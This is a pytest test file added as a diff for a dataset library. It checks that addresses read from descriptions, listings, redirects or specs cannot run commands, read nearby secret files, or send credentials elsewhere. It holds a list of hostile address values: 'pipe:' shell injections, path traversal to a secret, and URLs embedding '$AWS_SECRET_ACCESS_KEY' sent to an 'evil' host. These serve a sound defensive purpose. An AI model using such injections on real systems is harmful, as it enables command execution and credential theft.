@@ -1,0 +1,462 @@
+"""Who may open what: every scheme from every place where an address can be read.
+
+The table below is written out again on purpose: a change of `stores/_trust.py` must be made here too, and is then seen.
+"""
+
+import io
+import json
+import os
+import pickle
+from copy import deepcopy
+from pathlib import Path
+
+import pytest
+
+import webdataset as wds
+from fakes import answer, send_object
+from webdataset import shards, stores
+from webdataset.address import Address, Birth, birth_of, like
+from webdataset.errors import SpecError, StoreError, UnsafeContent, WebDatasetError
+from webdataset.flow import Drawn, url_as_json, url_from_json
+from webdataset.index import index_url, read_description
+from webdataset.stores._trust import TABLE, Kind, may_send_credentials
+from webdataset.testing import LoopbackServer
+
+EXPECTED = """
+            USER   FILE   MAPPING  DESCRIPTION  SPEC    LISTING  REDIRECT  CONTENT
+COMMAND     OPEN   NEVER  NEVER    NEVER        NEVER   NEVER    NEVER     NEVER
+STREAM      OPEN   NEVER  NEVER    NEVER        NEVER   NEVER    NEVER     NEVER
+LOCAL       OPEN   OPEN   OPEN     HOME         HOME    HOME     NEVER     NEVER
+MEMORY      OPEN   NEVER  OPEN     HOME         HOME    HOME     NEVER     NEVER
+WEB         OPEN   NEVER  OPEN     PUBLIC       PUBLIC  HOME     PUBLIC    PUBLIC
+CLOUD       OPEN   NEVER  OPEN     OPEN         OPEN    HOME     NEVER     OPEN
+OTHER       OPEN   NEVER  OPEN     HOME         HOME    HOME     NEVER     NEVER
+WRAPPER     OPEN   NEVER  NEVER    NEVER        NEVER   NEVER    NEVER     NEVER
+"""
+_HEAD, *_ROWS = (line.split() for line in EXPECTED.strip().splitlines())
+CELLS = {(row[0], birth): rule for row in _ROWS for birth, rule in zip(_HEAD, row[1:], strict=True)}
+
+# kind, an address of the dataset at home, one elsewhere, and the home
+PLACES = [
+    ("COMMAND", "pipe:printf x", "pipe:printf x", "pipe:"),
+    ("COMMAND", "PIPE:printf x", "PIPE:printf x", ""),
+    ("STREAM", "-", "-", ""),
+    ("LOCAL", "{home}/a.tar", "{elsewhere}/a.tar", "{home}"),
+    ("LOCAL", "file://{home}/a.tar", "file://{elsewhere}/a.tar", "{home}"),
+    ("LOCAL", "FILE:{home}/a.tar", "FILE:{elsewhere}/a.tar", "{home}"),
+    ("LOCAL", "{home}/x/../a.tar", "{home}/../elsewhere/a.tar", "{home}"),
+    ("LOCAL", "{home}/a.tar", "{home}-not/a.tar", "file://{home}"),
+    ("MEMORY", "memory://home/a.tar", "memory://elsewhere/a.tar", "memory://home/"),
+    *(("WEB", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/") for s in ("http", "https", "HTTPS")),
+    *(("CLOUD", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
+      for s in ("s3", "s3a", "gs", "az", "azure", "abfs", "abfss", "hf", "ais")),
+    *(("OTHER", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
+      for s in ("sftp", "ssh", "ftp", "hdfs", "github", "mine")),
+    *(("WRAPPER", f"{s}://home/a.tar", f"{s}://elsewhere/a.tar", f"{s}://home/x/")
+      for s in ("local", "dir", "simplecache", "filecache", "blockcache", "zip", "tar", "reference", "jar")),
+]  # fmt: skip
+
+
+def read(url):
+    with stores.open_read(url) as stream:
+        return stream.read()
+
+
+@pytest.fixture
+def room(tmp_path, monkeypatch):
+    """Every scheme is served by a function that notes what reaches it; local files are real."""
+    for folder in ("home/x", "elsewhere", "home-not"):
+        (tmp_path / folder).mkdir(parents=True)
+        (tmp_path / folder / "a.tar").write_bytes(b"x")
+    (tmp_path / "home" / "a.tar").write_bytes(b"x")
+    opened = []
+
+    def opener(url, mode, bufsize):
+        opened.append(url)
+        return io.BytesIO(b"x")
+
+    for kind, address, _, _ in PLACES:
+        scheme = "-" if kind == "STREAM" else stores.scheme_of(address)
+        if kind not in {"LOCAL", "COMMAND"}:
+            monkeypatch.setitem(stores.schemes, scheme, opener)
+    return opened
+
+
+def test_the_table_is_the_one_of_this_test():
+    assert {(kind.name, birth.name): rule.name for (kind, birth), rule in TABLE.items()} == CELLS
+    assert {kind.name for kind in Kind} == {row[0] for row in _ROWS} and {b.name for b in Birth} == set(_HEAD)
+
+
+@pytest.mark.parametrize("place", PLACES, ids=lambda place: place[1])
+def test_every_cell(room, tmp_path, place):
+    for birth in set(Birth) - {Birth.FILE}:  # a path is never parsed: test_a_file_is_a_file_whatever_its_name
+        try_cell(room, tmp_path, place, birth)
+
+
+def try_cell(room, tmp_path, place, birth):
+    kind, near, far, home = (part.replace("{home}", f"{tmp_path}/home").replace("{elsewhere}", f"{tmp_path}/elsewhere") for part in place)  # fmt: skip
+    rule = CELLS[kind, birth.name]
+    for address, is_near in ((near, True), (far, False)):
+        room.clear()
+        url = address if birth is Birth.USER else Address(address, birth, home)
+        if rule == "NEVER" or (rule == "HOME" and not is_near):
+            for act in (stores.open_read, stores.stat, stores.open_write, stores.is_local, stores.gopen, stores.list_urls, lambda u: stores.read_range(u, 0, 1)):  # fmt: skip
+                with pytest.raises(UnsafeContent):
+                    act(url)
+            assert room == []
+        else:
+            assert read(url) == b"x"
+
+
+@pytest.mark.parametrize("birth", list(Birth), ids=lambda birth: birth.name)
+@pytest.mark.parametrize("place", [place for place in PLACES if place[0] == "WEB"], ids=lambda place: place[1])
+def test_credentials_go_where_the_document_came_from(place, birth):
+    _, near, far, home = place
+    if birth is Birth.FILE:
+        return
+    by_user = CELLS["WEB", birth.name] == "OPEN"
+    assert may_send_credentials(Address(near, birth, home))
+    assert may_send_credentials(Address(far, birth, home)) == by_user
+    assert may_send_credentials(Address(near, birth, "/data/")) == by_user
+    assert may_send_credentials(Address(near.replace("home", "home:81"), birth, home)) == by_user
+    assert may_send_credentials(Address(near.replace("home", "home.evil.org"), birth, home)) == by_user
+
+
+def test_what_was_read_from_data_is_written_at_home_only(room):
+    for place in ("https://elsewhere/a.tar", "http://home/a.tar", "s3://bucket/a.tar"):
+        with pytest.raises(UnsafeContent):
+            stores.open_write(Address(place, Birth.DESCRIPTION, "https://home/"))
+    stores.open_write(Address("https://home/a.tar", Birth.DESCRIPTION, "https://home/"))
+
+
+# --- real places where addresses are read ------------------------------------------------------------------------
+
+HOSTILE = [
+    "pipe:touch {marker}", "PIPE:touch {marker}", "Pipe:touch {marker}", "pipe:touch {marker};.tar", " pipe:touch {marker}",
+    "\tpipe:touch {marker}", "pipe://touch {marker}", "-", "{secret}", "file://{secret}", "file:{secret}", "FILE:{secret}",
+    "../secret.tar", "x/../../secret.tar", "file:../secret.tar", "./../secret.tar", "local://{secret}", "dir://{secret}",
+    "simplecache::file://{secret}", "zip://a::file://{secret}", "file://localhost{secret}", "{secret}#x", "//{secret}", "data:text/plain,SECRET",
+]  # fmt: skip
+
+
+@pytest.fixture
+def scene(tmp_path, monkeypatch):
+    """A dataset in `data`, a secret next to it, a marker that no command may make, a server with the same dataset."""
+    data = tmp_path / "data"
+    data.mkdir()
+    secret, marker = tmp_path / "secret.tar", tmp_path / "marker"
+    secret.write_bytes(b"SECRET")
+    monkeypatch.chdir(data)
+    monkeypatch.setenv("WDS_RETRIES", "0")
+    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"SECRET")))
+    pages = {}
+
+    def respond(handler):
+        found = pages.get(handler.path.partition("?")[0])
+        if found is None:
+            answer(handler, 404, b"")
+        elif isinstance(found, str):
+            answer(handler, 302, b"", Location=found)
+        else:
+            send_object(handler, found)
+
+    with LoopbackServer(respond) as server:
+        yield type("Scene", (), {"data": data, "secret": secret, "marker": marker, "pages": pages, "server": server})()
+    stores.close_connections()
+
+
+def first(urls):
+    return next(iter(urls))
+
+
+def description_of(url, **more):
+    return json.dumps({"wids_version": 1, "shardlist": [{"url": url, "nsamples": 1}], **more}).encode()
+
+
+def from_local_description(scene, text):
+    (scene.data / "d.json").write_bytes(description_of(text))
+    return first(read_description("d.json").urls)
+
+
+def from_remote_description(scene, text):
+    scene.pages["/d.json"] = description_of(text)
+    return first(read_description(scene.server.url("d.json")).urls)
+
+
+def from_a_base(scene, text):
+    inner = {"base": text, "shardlist": [{"url": "secret.tar", "nsamples": 1}]}
+    (scene.data / "d.json").write_text(json.dumps({"wids_version": 1, "datasets": [inner]}))
+    return first(read_description("d.json").urls)
+
+
+def from_a_folder_as_base(scene, text):
+    return from_a_base(scene, os.path.dirname(text) if "secret" in text else f"{text} #")
+
+
+def from_a_nested_description(scene, text):
+    (scene.data / "d.json").write_text(json.dumps({"wids_version": 1, "datasets": [{"source_url": "in.json"}]}))
+    (scene.data / "in.json").write_bytes(description_of(text))
+    return first(read_description("d.json").urls)
+
+
+def from_a_source_url(scene, text):
+    (scene.data / "d.json").write_text(json.dumps({"wids_version": 1, "datasets": [{"source_url": text}]}))
+    return first(read_description("d.json").urls)
+
+
+def from_a_yaml_spec(scene, text):
+    pytest.importorskip("yaml")
+    (scene.data / "s.yaml").write_text(json.dumps({"datasets": [{"shards": [text]}]}))
+    return first(first(shards.parse_spec(str(scene.data / "s.yaml"))).urls)
+
+
+def from_a_yaml_prefix(scene, text):
+    pytest.importorskip("yaml")
+    (scene.data / "s.yaml").write_text(json.dumps({"prefix": text, "datasets": [{"shards": [" .tar"]}]}))
+    return first(first(shards.parse_spec(str(scene.data / "s.yaml"))).urls)
+
+
+def from_a_local_listing(scene, text):
+    name = text.replace("/", "_")
+    (scene.data / name).write_bytes(b"file")
+    found = first(shards.expand("*"))
+    assert read(found) == b"file"
+    return found
+
+
+def from_a_directory(scene, text):
+    name = text.replace("/", "_") + ".tar"
+    (scene.data / name).write_bytes(b"file")
+    found = first(wds.DirectoryShardList(".", mode="keep", poll=None))["url"]
+    assert read(found) == b"file"
+    return found
+
+
+def from_a_path_object(scene, text):
+    name = text.replace("/", "_")
+    (scene.data / name).write_bytes(b"file")
+    found = first(shards.expand([Path(name)]))
+    assert read(found) == b"file"
+    return found
+
+
+def from_a_remote_listing(scene, text):
+    scene.pages["/"] = f'<a href="{text}">x</a>'.encode()
+    return first(stores.list_urls(scene.server.url("*")))
+
+
+def from_a_redirect(scene, text):
+    scene.pages["/a.tar"] = text.replace("\t", "%09")
+    return scene.server.url("a.tar")
+
+
+def from_the_contents(scene, text):
+    return Address(text, Birth.CONTENT)
+
+
+def from_a_rewriting_rule(scene, text):
+    os.environ["GOPEN_REWRITE"] = f"https://h/={text}".replace(";", "")
+    return Address("https://h/../secret.tar", Birth.DESCRIPTION, "https://h/")
+
+
+BIRTHPLACES = [value for name, value in list(globals().items()) if name.startswith("from_")]
+
+
+@pytest.mark.parametrize("birthplace", BIRTHPLACES, ids=lambda place: place.__name__)
+def test_hostile_addresses_from_every_place(scene, monkeypatch, birthplace):
+    for number, hostile in enumerate(HOSTILE):
+        monkeypatch.setenv("GOPEN_REWRITE", "")
+        scene.data = scene.secret.parent / f"data-{number}"
+        scene.data.mkdir()
+        monkeypatch.chdir(scene.data)
+        try_hostile(scene, birthplace, hostile)
+
+
+def try_hostile(scene, birthplace, hostile):
+    text = hostile.format(secret=scene.secret, marker=scene.marker)
+    try:
+        url = birthplace(scene, text)
+        for act in (stores.open_read, stores.gopen, wds.gopen):
+            with act(url) as stream:
+                assert b"SECRET" not in stream.read()
+        path = stores.is_local(url)
+        assert path is None or os.path.realpath(path) != str(scene.secret)
+    except (WebDatasetError, OSError, StopIteration):
+        pass  # refused, or not there: either way nothing was run or read
+    assert not scene.marker.exists()
+
+
+@pytest.mark.parametrize("text", [each for each in HOSTILE if each.lstrip().lower().startswith("pipe")])
+def test_a_hostile_dataset_runs_nothing(scene, text):
+    """The same by the front door, with and without an index."""
+    (scene.data / "d.json").write_bytes(description_of(text.format(marker=scene.marker)))
+    for make in (wds.WebDataset, wds.IndexedDataset):
+        with pytest.raises((WebDatasetError, OSError)):
+            list(make(str(scene.data / "d.json")))
+    assert not scene.marker.exists()
+
+
+@pytest.mark.parametrize("make", [wds.WebDataset, wds.IndexedDataset, lambda u: wds.WebDataset(u, index=False), lambda u: wds.WebDataset(u, resampled=True)])  # fmt: skip
+def test_rewriting_does_not_make_commands_of_data(scene, monkeypatch, make):
+    """The user's rule is for addresses that the user writes; the text after it would reach a shell."""
+    monkeypatch.setenv("GOPEN_REWRITE", "https://h/=pipe:cat ")
+    scene.pages["/d.json"] = description_of(f"https://h/x; touch {scene.marker}")
+    with pytest.raises(UnsafeContent, match="pipe: commands are not run when they come from a dataset description"):
+        next(iter(make(scene.server.url("d.json"))))
+    assert not scene.marker.exists()
+
+
+def test_rewriting_of_a_listing_or_a_yaml_spec(scene, monkeypatch, tmp_path):
+    scene.pages["/"] = b'<a href="a.tar">a</a>'
+    found = first(stores.list_urls(scene.server.url("*")))
+    (tmp_path / "local.tar").write_bytes(b"file")
+    local = stores.list_urls(str(tmp_path / "*.tar"))
+    monkeypatch.setenv("GOPEN_REWRITE", "http://=pipe:echo ;s3://=pipe:echo ;mem(ory)://x/=/mnt/;/=pipe:echo ")
+    for url in (found, Address("s3://b/a.tar", Birth.SPEC), Drawn(found, 3), like(found, "http://h/a.idx")):
+        with pytest.raises(UnsafeContent):
+            stores.open_read(url)
+    assert stores.is_local(Address("memory://x/a.tar", Birth.SPEC)) == "/mnt/a.tar"
+    with pytest.raises(UnsafeContent):
+        stores.is_local(Address("memory://x/../etc/passwd", Birth.SPEC))
+    assert [read(path) for path in local if "local" in path] == [b"file"]  # a path is never rewritten
+
+
+def test_a_file_is_a_file_whatever_its_name(scene):
+    names = ["pipe:touch marker;.tar", "-", "memory:x.tar", "s3:x.tar", "note:1.tar", "http:x", "file:x.tar", "a{0..3}.tar", "[x].tar", "a b.tar"]  # fmt: skip
+    for name in names:
+        (scene.data / name).write_bytes(name.encode())
+    for found in (shards.expand("*"), shards.expand(list(Path().glob("*"))), shards.expand(Path().glob("*")), stores.list_urls("./")):  # fmt: skip
+        assert sorted(read(url).decode() for url in found) == sorted(names)
+        assert {birth_of(url) for url in found} == {Birth.FILE}
+    assert not (scene.data / "marker").exists()
+
+
+def test_the_text_of_an_address_is_harmless_when_its_type_is_lost(scene):
+    for name in ("pipe:touch marker;.tar", "-"):
+        (scene.data / name).write_bytes(b"file")
+    for url in shards.expand("*"):
+        assert read(str(url)) == b"file"
+    assert not (scene.data / "marker").exists()
+
+
+def test_environment_variables_do_not_leave_in_addresses(scene, monkeypatch):
+    pytest.importorskip("yaml")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
+    for text in ("https://evil/$AWS_SECRET_ACCESS_KEY", "https://evil/${AWS_SECRET_ACCESS_KEY}/", "https://evil/$HF_TOKEN"):
+        for spec in ({"prefix": text}, {"buckets": [text]}, {}):
+            spec = {**spec, "datasets": [{"shards": ["a.tar" if spec else text]}]}
+            (scene.data / "s.yaml").write_text(json.dumps(spec))
+            with pytest.raises(UnsafeContent, match="environment variable"):
+                list(shards.parse_spec("s.yaml"))
+
+
+def test_the_remedies_work(scene, monkeypatch, tmp_path):
+    (scene.data / "d.json").write_bytes(description_of(str(scene.secret)))
+    with pytest.raises(UnsafeContent, match="WDS_TRUSTED_FOLDERS"):
+        read_description("d.json")
+    monkeypatch.setenv("WDS_TRUSTED_FOLDERS", f"/nowhere:{tmp_path}")
+    assert read(first(read_description("d.json").urls)) == b"SECRET"
+    monkeypatch.delenv("WDS_TRUSTED_FOLDERS")
+    assert read(first(read_description("d.json", base=str(tmp_path)).urls)) == b"SECRET"
+
+
+def test_a_description_from_a_command_needs_a_base(scene):
+    (scene.data / "d.json").write_bytes(description_of("a.tar; touch marker"))
+    with pytest.raises(SpecError, match="base="):
+        read_description("pipe:cat d.json")
+    assert first(read_description("pipe:cat d.json", base=".").urls) == "./a.tar; touch marker"
+
+
+def test_credentials_of_another_host_are_not_sent(scene, monkeypatch):
+    seen = []
+
+    def note(handler):
+        seen.append((handler.path, handler.headers.get("Authorization"), handler.headers.get("X-Own")))
+        send_object(handler, b"x")
+
+    with LoopbackServer(note) as other:
+        table = {other.url(""): {"Authorization": "Bearer tok", "X-Own": "1"}, scene.server.url(""): {"X-Own": "2"}}
+        monkeypatch.setenv("WDS_HTTP_HEADERS", json.dumps(table))
+        scene.pages["/d.json"] = description_of(other.url("a.tar"))
+        url = first(read_description(scene.server.url("d.json")).urls)
+        read(url)
+        read(str(url))  # as the user would write it
+        stores.close_connections()
+    assert seen == [("/a.tar", None, None), ("/a.tar", "Bearer tok", "1")]
+
+
+# --- the type itself ----------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("birth", list(Birth))
+def test_an_address_is_text(birth):
+    url = Address("https://h/a.tar", birth, "https://h/")
+    assert url == "https://h/a.tar" and hash(url) == hash("https://h/a.tar") and {url: 1}["https://h/a.tar"] == 1
+    assert repr(url) == "'https://h/a.tar'" and f"{url}" == "https://h/a.tar" and json.loads(json.dumps([url])) == [url]
+    assert type(str(url)) is str and type(url + "") is str and Path(url).name == "a.tar"
+    for copy in (pickle.loads(pickle.dumps(url)), deepcopy(url), Address(url)):
+        assert (copy, copy.birth, copy.home, type(copy)) == (url, birth, "https://h/", Address)
+    drawn = pickle.loads(pickle.dumps(Drawn(url, 7)))
+    assert (drawn, drawn.birth, drawn.draw) == (url, birth, 7) and (birth is Birth.USER or drawn.home == url.home)
+    assert birth_of(index_url(url)) is birth and birth_of(index_url(url, "d")) is Birth.USER
+
+
+def test_a_checkpoint_finds_the_address_of_the_dataset_again(scene):
+    (scene.data / "d.json").write_bytes(description_of("a.tar"))
+    dataset = shards.SimpleShardList(read_description("d.json").urls)
+    saved = json.loads(json.dumps(url_as_json(dataset.urls[0])))
+    assert type(saved) is str and birth_of(url_from_json(saved)) is Birth.DESCRIPTION
+    assert birth_of(url_from_json([saved, 3])) is Birth.DESCRIPTION and url_from_json([saved, 3]).draw == 3
+
+
+def test_secure_mode_refuses_files_whatever_their_birth(monkeypatch, tmp_path):
+    (tmp_path / "a.tar").write_bytes(b"x")
+    monkeypatch.setenv("WDS_SECURE", "1")
+    for birth in (Birth.USER, Birth.FILE, Birth.MAPPING, Birth.DESCRIPTION):
+        with pytest.raises(UnsafeContent, match="unsafe_gopen is False"):
+            stores.open_read(Address(f"{tmp_path}/a.tar", birth, str(tmp_path)))
+
+
+def test_without_the_extra_s3_names_the_line_to_type(monkeypatch):
+    monkeypatch.setitem(__import__("sys").modules, "obstore", None)
+    for act in (stores.open_read, stores.stat, stores.open_write, stores.list_urls):
+        with pytest.raises(wds.errors.MissingDependency, match=r"pip install 'webdataset\[cloud\]'"):
+            act("s3://bucket/*.tar")
+    with pytest.raises(wds.errors.MissingDependency, match=r"pip install 'webdataset\[cloud\]'"):
+        next(iter(wds.WebDataset("s3://bucket/{0..1}.tar")))
+
+
+def test_too_many_shards_are_refused_before_they_fill_the_memory():
+    for spec in (
+        "{0..999999999}.tar", "{0..9999}{0..9999}.tar", ["{000000000..999999999..7}.tar"], "{999999999..0}.tar",
+        "{a,b{0..9999}}{0..9999}.tar", "{0..9}" * 9, "{a..z}" * 6, "{a,b}" * 30,
+    ):  # fmt: skip
+        with pytest.raises(SpecError, match="at most 10,000,000 shards"):
+            shards.expand(spec)
+
+
+@pytest.mark.parametrize("spec", ["a", "{0..9}", "{00..10..3}", "{9..0}", "{a,b,c}", "{a,b{0..3}c{x,y}}{0..4}", "{a}", "{}", "x{,y}", "{{a,b},{0..2}}", "{a..c}"])  # fmt: skip
+def test_the_number_of_shards_is_known_before_they_are_made(spec):
+    from webdataset.shards._expand import _count
+
+    assert _count(spec) == len(shards.expand_urls(spec))
+
+
+def test_an_endless_list_ends():
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("webdataset.shards._expand.MAX_SHARDS", 1000)
+        with pytest.raises(SpecError, match="at most"):
+            shards.expand(iter(lambda: "a.tar", None))
+
+
+def test_a_generator_of_paths_is_read_once_and_kept(tmp_path):
+    for name in "ab":
+        with wds.TarWriter(str(tmp_path / f"{name}.tar")) as writer:
+            writer.write({"__key__": name, "txt": name})
+    kept = shards.SimpleShardList(sorted(tmp_path.glob("*.tar")))
+    assert len(kept) == 2 and [len(list(kept)) for _ in range(3)] == [2, 2, 2]
+    assert sorted(shards.kept(tmp_path.glob("*.tar"))) == sorted(tmp_path.glob("*.tar")) and shards.kept(kept) is kept
+    lazy = shards.SimpleShardList(tmp_path.glob("*.tar"))
+    assert len(lazy) == 2 and [len(list(lazy)) for _ in range(3)] == [2, 2, 2]
+    with pytest.raises(StoreError):
+        stores.open_read(tmp_path / "missing.tar")
